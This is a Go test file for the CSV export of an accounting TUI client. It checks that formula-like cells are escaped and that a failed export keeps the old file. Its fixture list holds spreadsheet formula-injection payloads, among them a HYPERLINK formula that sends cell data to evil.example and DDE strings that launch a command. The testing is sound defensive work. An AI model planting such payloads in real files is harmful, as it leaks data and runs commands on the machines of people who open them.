package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kasa-tui/kasa/apiclient"
	"github.com/kasa-tui/kasa/internal/tuitest"
)

// FormulaPayloads are texts a spreadsheet would run as formulas: each
// first character OWASP lists, and a full-width equals sign.
var FormulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"Open")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"＝1+1",
}

// csvRows parses an export and returns its rows as maps by column name.
func csvRows(t *testing.T, b []byte) []map[string]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("csv: %v\n%s", err, b)
	}
	var out []map[string]string
	for _, r := range recs[1:] {
		m := map[string]string{}
		for i, h := range recs[0] {
			m[h] = r[i]
		}
		out = append(out, m)
	}
	return out
}

// A subject named like a formula is written as text: a single quote
// before it and the cell quoted (OWASP); a negative decimal stays a
// number, and a text column's "-5" is text, escaped.
func TestCSVEscapesFormulaCellsAndKeepsNumbers(t *testing.T) {
	sb := tuitest.NewSandbox(t, tuitest.SandboxOptions{Start: start})
	ctx := context.Background()
	for _, p := range FormulaPayloads {
		if _, _, err := sb.Client.Subjects.Create(ctx, &apiclient.SubjectParams{Name: apiclient.Ptr("Firma " + p[:1]), Street: apiclient.Ptr(p), PrivateNote: apiclient.Ptr("-5")}); err != nil {
			t.Fatalf("create a subject with %q: %v", p, err)
		}
	}
	sub, _, err := sb.Client.Subjects.Create(ctx, &apiclient.SubjectParams{Name: apiclient.Ptr("Beta Supplies")})
	if err != nil {
		t.Fatal(err)
	}
	q, price := apiclient.MustDecimal("1"), apiclient.MustDecimal("-100.25")
	if _, _, err := sb.Client.Expenses.Create(ctx, &apiclient.ExpenseParams{SubjectID: &sub.ID, OriginalNumber: apiclient.Ptr("-7"),
		Lines: []apiclient.LineParams{{Name: apiclient.Ptr("Credit"), Quantity: &q, UnitPrice: &price, VatRate: apiclient.Ptr(apiclient.MustDecimal("0"))}}}); err != nil {
		t.Fatal(err)
	}

	var out bytes.Buffer
	if _, err := Write(ctx, sb.Client, &out, Options{Kind: "subjects", Format: CSV}); err != nil {
		t.Fatal(err)
	}
	streets := map[string]bool{}
	for _, r := range csvRows(t, out.Bytes()) {
		streets[r["street"]] = true
		if r["private_note"] != "" && r["private_note"] != "'-5" {
			t.Errorf("text column private_note %q, want '-5", r["private_note"])
		}
	}
	for _, p := range FormulaPayloads {
		if !streets["'"+p] {
			t.Errorf("street %q not written as the text '%s", p, p)
		}
		if quoted := `"'` + strings.ReplaceAll(p, `"`, `""`) + `"`; !strings.Contains(out.String(), quoted) {
			t.Errorf("the cell of %q is not quoted: want %s in the file", p, quoted)
		}
	}

	out.Reset()
	if _, err := Write(ctx, sb.Client, &out, Options{Kind: "expenses", Format: CSV}); err != nil {
		t.Fatal(err)
	}
	r := csvRows(t, out.Bytes())[0]
	if r["total"] != "-100.25" || r["subtotal"] != "-100.25" {
		t.Errorf("negative decimals written as total %q subtotal %q, want the number -100.25", r["total"], r["subtotal"])
	}
	if !strings.Contains(out.String(), ",-100.25,") {
		t.Errorf("the negative total is not a bare number cell:\n%s", out.String())
	}
	if r["original_number"] != "'-7" {
		t.Errorf("text column original_number %q, want '-7", r["original_number"])
	}
}

// failPage answers the given page of every list with a 500 (no retries).
func failPage(base http.RoundTripper, page string) http.RoundTripper {
	tr := &tuitest.Transport{Base: base}
	tr.SetHook(func(r *http.Request) (*http.Response, error) {
		if r.URL.Query().Get("page") != page {
			return nil, nil
		}
		return &http.Response{StatusCode: 500, Header: http.Header{"Content-Type": {"application/json"}}, Request: r,
			Body: io.NopCloser(strings.NewReader(`{"error":"server_error","error_description":"boom"}`))}, nil
	})
	return tr
}

// An export over an existing file whose second page fails leaves the old
// file byte for byte, and no temporary file beside it.
func TestFailedExportLeavesTheOldFile(t *testing.T) {
	sb := tuitest.NewSandbox(t, tuitest.SandboxOptions{Start: start})
	ctx := context.Background()
	for i := range apiclient.PageSize + 5 {
		if _, _, err := sb.Client.Subjects.Create(ctx, &apiclient.SubjectParams{Name: apiclient.Ptr(fmt.Sprintf("Firma %02d", i))}); err != nil {
			t.Fatal(err)
		}
	}
	token := sb.Server.IssueToken(sb.Setup.Owner.ID, sb.Setup.Client.ID)
	c := sb.ClientWith(t, token, apiclient.WithTransport(failPage(apiclient.StaticBearer(nil, token), "2")), apiclient.WithRetries(0))

	dir := t.TempDir()
	path := filepath.Join(dir, "subjects.csv")
	old := []byte("id,name\n1,the export of last week\n")
	if err := os.WriteFile(path, old, 0o600); err != nil {
		t.Fatal(err)
	}
	n, err := WriteFile(ctx, c, path, Options{Kind: "subjects", Format: CSV})
	if err == nil || n != apiclient.PageSize {
		t.Fatalf("export with a failing page 2: %d rows, %v; want page 1's %d and an error", n, err, apiclient.PageSize)
	}
	if b, _ := os.ReadFile(path); !bytes.Equal(b, old) {
		t.Errorf("the old file changed:\n%s", b)
	}
	if es, _ := os.ReadDir(dir); len(es) != 1 {
		t.Errorf("the folder holds %d files, want the old one alone", len(es))
	}

	// Whole, it replaces the file (0600).
	if n, err := WriteFile(ctx, sb.Client, path, Options{Kind: "subjects", Format: CSV}); err != nil || n != apiclient.PageSize+5 {
		t.Fatalf("export: %d, %v", n, err)
	}
	if rows := csvRows(t, mustRead(t, path)); len(rows) != apiclient.PageSize+5 {
		t.Errorf("the new file has %d rows", len(rows))
	}
	if fi, err := os.Stat(path); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, want 0600", fi.Mode().Perm())
	}
}

func mustRead(t *testing.T, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
